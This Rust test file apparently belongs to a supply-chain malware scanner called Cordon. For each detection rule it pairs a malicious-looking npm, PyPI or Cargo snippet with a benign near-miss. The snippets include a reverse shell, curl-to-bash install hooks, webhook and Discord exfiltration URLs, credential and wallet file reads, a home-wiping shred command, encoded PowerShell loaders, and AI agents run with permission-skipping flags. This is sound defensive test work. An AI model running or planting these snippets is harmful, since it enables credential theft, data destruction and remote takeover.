//! Of every rule Cordon comes with a text that meets it and one much like it that does not. None does
//! anything: they are looked at and never run.

use std::collections::BTreeSet;

use super::set::IndicatorSet;
use super::{Grade, IndicatorFacts, SearchedFile};
use crate::ecosystem::{CARGO, NPM, PYPI};
use crate::model::Ecosystem;

/// The rule, the file, what meets it, what does not.
type Example = (
    &'static str,
    &'static Ecosystem,
    &'static str,
    &'static str,
    &'static str,
);

const EXAMPLES: &[Example] = &[
    (
        "npm-worm",
        &NPM,
        "bundle.js",
        "get('/-/v1/search?text=maintainer:' + who); pkg.scripts.postinstall = 'node b.js'; run('npm publish');",
        "get('/-/v1/search?text=maintainer:' + who); // the scripts preinstall and postinstall are shown",
    ),
    (
        "worm-marker",
        &NPM,
        "bundle.js",
        "octokit.createForAuthenticatedUser({ name: 'Shai-Hulud' })",
        "// 2.0.1: nothing of Shai-Hulud was ever in this package",
    ),
    (
        "bun-dropper",
        &NPM,
        "package.json",
        r#"{"scripts":{"preinstall":"node setup_bun.js"}}"#,
        r#"{"scripts":{"test":"bun run setup.js"}}"#,
    ),
    (
        "secret-scanner-download",
        &NPM,
        "lib/a.js",
        "fetch('https://files.example/trufflesecurity/trufflehog/releases/latest')",
        "// trufflehog finds nothing here",
    ),
    (
        "workflow-takes-secrets",
        &NPM,
        "bundle.js",
        "put('.github/workflows/a.yml', 'run: echo ${{ toJSON(secrets) }}')",
        "put('.github/workflows/a.yml', 'run: echo ${{ secrets.TOKEN }}')",
    ),
    (
        "wipes-home",
        &NPM,
        "a.js",
        "x('find $HOME -type f -print0 | xargs -0 shred -uvz -n 1')",
        "x('shred one.key')",
    ),
    (
        "webhook-endpoint",
        &PYPI,
        "setup.py",
        "post('https://webhook.site/00000000-1111-2222-3333-444444444444')",
        "post('https://webhook.site/your-id-here')",
    ),
    (
        "webhook-endpoint",
        &PYPI,
        "hooks.py",
        "os.system('curl https://webhook.site/00000000-1111-2222-3333-444444444444 -d @-')",
        "Hook(\n    url=\"https://webhook.site/00000000-1111-2222-3333-444444444444\",\n)",
    ),
    (
        "webhook-endpoint",
        &NPM,
        "index.js",
        "lookup(name + '.c58bduhe008dovpvhvug0000000000000.oast.fun')",
        "lookup('toast.fun'); lookup('a.oast.fun')",
    ),
    (
        "chat-endpoint",
        &PYPI,
        "a/b.py",
        concat!(
            "u = 'https://discord.com/api/webhooks/000000000000000000/",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'"
        ),
        "u = 'https://discord.com/api/webhooks/{id}/{token}'",
    ),
    (
        "chat-endpoint",
        &PYPI,
        "a/b.py",
        "u = 'https://api.telegram.org/bot000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/sendMessage'",
        "u = 'https://api.telegram.org/bot%s/sendMessage'",
    ),
    (
        "tunnel-host",
        &PYPI,
        "a.py",
        "u = 'https://0000-00-00.ngrok-free.app/'",
        "u = 'https://ngrok-free.app/'",
    ),
    (
        "credentials-of-all-kinds",
        &NPM,
        "a.js",
        "['~/.aws/credentials', '~/.npmrc', '~/.ssh/id_ed25519', '~/.kube/config'].map(read)",
        "['~/.npmrc', '~/.aws/credentials'].map(read)",
    ),
    (
        "cloud-metadata",
        &CARGO,
        "src/lib.rs",
        "const HOST: &str = \"169.254.169.254\";",
        "const HOST: &str = \"169.254.1.1\";",
    ),
    (
        "assistant-harvest",
        &NPM,
        "telemetry.js",
        "run('c', ['--dangerously-skip-permissions', p]); run('g', ['--yolo', p]); p = 'find keystore and wallet files'",
        "run('c', ['--dangerously-skip-permissions']); // no wallet, no keystore",
    ),
    (
        "browser-passwords",
        &PYPI,
        "a.py",
        "join(base, 'Login Data'); json.load(open(join(base, 'Local State')))['os_crypt']",
        "join(base, 'Cookies'); json.load(open(join(base, 'Local State')))['os_crypt']",
    ),
    (
        "chat-token-theft",
        &PYPI,
        "a.py",
        r"re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', line); join('Local Storage', 'leveldb')",
        r"re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', line)",
    ),
    (
        "wallet-extensions",
        &NPM,
        "a.js",
        "['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'].map(read)",
        "['nkbihfbeogaeaoehlefnkodbefgpgknn'].map(read)",
    ),
    (
        "address-swap",
        &NPM,
        "index.js",
        concat!(
            "XMLHttpRequest.prototype.send = s; if (window.ethereum) {} ",
            "a = ['0x0000000000000000000000000000000000000000', 'T000'];",
            "b = ['TAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'];"
        ),
        concat!(
            "XMLHttpRequest.prototype.send = s; if (window.ethereum) {} ",
            "a = ['0x0000000000000000000000000000000000000000'];"
        ),
    ),
    (
        "clipboard-address-swap",
        &PYPI,
        "a.py",
        "if re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', pyperclip.paste()): pass",
        "re.match('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', address)",
    ),
    (
        "reverse-shell",
        &NPM,
        "package.json",
        r#"{"scripts":{"postinstall":"bash -i >& /dev/tcp/host.invalid/1 0>&1"}}"#,
        r#"{"scripts":{"postinstall":"bash -c 'echo /dev/tcp/'"}}"#,
    ),
    (
        "reverse-shell",
        &PYPI,
        "a.py",
        "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); call(['/bin/sh', '-i'])",
        "os.dup2(devnull, 0); call(['/bin/sh', '-c', 'true'])",
    ),
    (
        "encoded-powershell",
        &NPM,
        "a.js",
        concat!(
            "exec('powershell.exe -NoProfile -EncodedCommand ",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')"
        ),
        "exec('powershell.exe -NoProfile -EncodedCommand ' + script)",
    ),
    (
        "download-string",
        &PYPI,
        "a.py",
        "'IEX (New-Object Net.WebClient).DownloadString(u)'",
        "client.DownloadString(u)",
    ),
    (
        "paste-loader",
        &PYPI,
        "setup.py",
        "exec(get('https://pastebin.com/raw/00000000').text)",
        "print(get('https://pastebin.com/raw/00000000').text)",
    ),
    (
        "install-pipes-to-shell",
        &NPM,
        "package.json",
        r#"{"scripts":{"postinstall":"curl -s https://host.invalid/a | bash"}}"#,
        r#"{"scripts":{"build":"curl -s https://host.invalid/a | bash"}}"#,
    ),
    (
        "gyp-fetches",
        &NPM,
        "binding.gyp",
        "{'sources': ['<!(curl -s host.invalid)']}",
        "{'include_dirs': ['<!(node -p \"require(1).include\")']}",
    ),
    (
        "pth-loader",
        &PYPI,
        "a_init.pth",
        "import os, base64; run(base64.b64decode('AAAA'))",
        "import os; exec('import coverage; coverage.process_startup()')",
    ),
    (
        "pth-loader",
        &PYPI,
        "a_init.pth",
        "import os, sys; exec('from subprocess import run; run([\"sh\", \"-c\", x])')",
        "import os, sys; exec('sys.stderr.write(\"failed to setup subprocess coverage\")')",
    ),
    (
        "build-script-sends",
        &CARGO,
        "build.rs",
        "for (k, v) in env::vars() { ureq::post(HOST).send(&v); }",
        "for (k, v) in env::vars() { println!(\"{k}\"); }",
    ),
    (
        "build-script-fetches",
        &CARGO,
        "build.rs",
        "let body = ureq::get(URL).call();",
        "println!(\"cargo:rerun-if-changed=build.rs\");",
    ),
    (
        "chain-controlled",
        &NPM,
        "a.js",
        "const it = await c.getSignaturesForAddress(a); eval(atob(it[0].memo));",
        "const it = await c.getSignaturesForAddress(a); show(it[0].memo);",
    ),
    (
        "invisible-code",
        &NPM,
        "a.js",
        "c >= 0xFE00 ? c - 0xFE00 : c - 0xE0100; eval(decoded)",
        "c >= 0xFE00 ? c - 0xFE00 : c - 0xE0100; x = function (a) { return word.exec(a) }",
    ),
];

fn found(set: &IndicatorSet, ecosystem: &Ecosystem, path: &str, text: &str) -> IndicatorFacts {
    let mut facts = IndicatorFacts::of(set.id());
    let file = SearchedFile {
        ecosystem,
        path,
        sha256: [0; 32],
        bytes: text.as_bytes(),
    };
    set.search(&file, &mut facts);
    facts
}

#[test]
fn every_rule_finds_its_example_and_not_what_is_much_like_it() {
    let set = IndicatorSet::built_in();
    for (rule, ecosystem, path, bad, good) in EXAMPLES {
        let has = |text: &str| {
            let facts = found(&set, ecosystem, path, text);
            facts.hits.iter().any(|hit| hit.rule == *rule)
        };
        assert!(has(bad), "{rule} does not find {bad}");
        assert!(!has(good), "{rule} finds {good}");
    }
}

#[test]
fn every_rule_has_examples() {
    let set = IndicatorSet::built_in();
    let rules: BTreeSet<&str> = set
        .rules
        .iter()
        .filter(|rule| set.packs[rule.pack].id == "starter")
        .map(|rule| rule.id.as_str())
        .collect();
    let shown: BTreeSet<&str> = EXAMPLES.iter().map(|(rule, ..)| *rule).collect();
    assert_eq!(rules, shown);
    assert!(rules.len() > 20, "{}", rules.len());
}

#[test]
fn what_is_good_beside_the_rules_meets_none_that_stops_it() {
    let set = IndicatorSet::built_in();
    for (rule, ecosystem, path, _, good) in EXAMPLES {
        let facts = found(&set, ecosystem, path, good);
        let stops: Vec<_> = facts
            .hits
            .iter()
            .filter(|hit| hit.grade == Grade::Malicious)
            .collect();
        assert!(stops.is_empty(), "{rule}: {stops:?}");
    }
}
